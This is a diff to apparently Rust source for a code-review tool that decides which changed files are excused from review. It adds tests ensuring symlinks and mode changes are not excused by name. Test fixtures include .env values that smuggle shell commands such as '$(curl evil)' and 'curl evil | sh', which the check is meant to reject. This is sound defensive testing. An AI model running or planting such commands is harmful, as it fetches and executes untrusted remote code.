@@ -49,7 +49,7 @@ impl Excuse {
     /// Whether it is shown all the same, beside files that have to be: it is short, and may be worth a word.
     #[must_use]
     pub fn is_shown(self) -> bool {
-        matches!(self, Self::Masked | Self::Submodule)
+        !matches!(self, Self::Lock | Self::Generated | Self::Ignored)
     }
 }
 
@@ -82,7 +82,7 @@ pub fn cover(diff: &FileDiff, ignore: &Ignore, content: Content) -> Cover {
     if names().all(|name| ignore.own(name) == Some(true)) {
         return Cover::Excused(Excuse::Ignored);
     }
-    if names().all(|name| ignore.own(name).is_none()) {
+    if diff.is_plain_file() && names().all(|name| ignore.own(name).is_none()) {
         if names().all(|name| locks::is_lock(name)) && content.known_sources {
             return Cover::Excused(Excuse::Lock);
         }
@@ -192,6 +192,26 @@ mod tests {
     }
 
     #[test]
+    fn a_name_excuses_no_link_and_no_change_of_mode() {
+        for (old_mode, new_mode) in [
+            (0, Objects::SYMLINK),
+            (0o100_644, Objects::SYMLINK),
+            (0o100_644, Objects::EXECUTABLE),
+        ] {
+            let objects = Objects {
+                old_mode,
+                new_mode,
+                ..Objects::default()
+            };
+            let vendored = FileDiff {
+                objects,
+                ..diff("vendor/b.js", LINES)
+            };
+            assert_eq!(covered(&vendored), Cover::Owed, "{new_mode:o}");
+        }
+    }
+
+    #[test]
     fn both_names_of_a_rename_have_to_be_excused() {
         for (from, to, expected) in [
             ("src/auth.js", "vendor/auth.js", Cover::Owed),
@@ -223,6 +243,23 @@ mod tests {
             (
                 ".env",
                 "@@ -0,0 +1,3 @@\n+# note\n+API_KEY=x\n+export B=1\n",
+                true,
+            ),
+            (
+                ".env",
+                "@@ -0,0 +1,3 @@\n+KEY=\"-----BEGIN\n+AAAA==\n+\"\n",
+                true,
+            ),
+            (
+                ".env",
+                "@@ -0,0 +1,3 @@\n+KEY=\"open\n+$(curl evil)\n+\"\n",
+                false,
+            ),
+            (".env", "@@ -0,0 +1 @@\n+KEY=\"a\" curl evil\n", false),
+            (".env", "@@ -0,0 +1 @@\n+KEY=1 curl evil\n", false),
+            (
+                ".env",
+                "@@ -0,0 +1 @@\n+URL=https://a.example:8080/x?y=z # note\n",
                 true,
             ),
             (".env", "@@ -0,0 +1 @@\n+curl evil | sh\n", false),
